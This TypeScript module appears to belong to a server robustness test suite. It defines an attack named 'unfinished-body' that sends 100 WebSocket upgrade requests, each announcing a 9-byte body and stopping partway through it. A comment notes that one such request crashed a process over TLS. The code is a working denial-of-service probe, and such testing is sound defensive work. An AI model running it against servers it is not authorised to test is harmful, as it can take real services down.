import { once } from 'node:events';
import { type Attack, open } from './attack.ts';

const REQUEST =
  'GET / HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nContent-Length: 9\r\n\r\n1234';

/** Over TLS one of them ended the process: the stream that Node makes of it failed unheard. */
export const unfinishedBody: Attack = {
  name: 'unfinished-body',
  what: '100 upgrades announce a body and leave in the middle of it',
  async run(target) {
    for (let round = 0; round < 100; round++) {
      const socket = await open(target);
      socket.resume().write(REQUEST);
      if (!socket.closed) await once(socket, 'close', { signal: AbortSignal.timeout(3000) }).catch(() => {});
      socket.destroy();
    }
    return { connections: 100, bytes: 100 * REQUEST.length };
  },
};
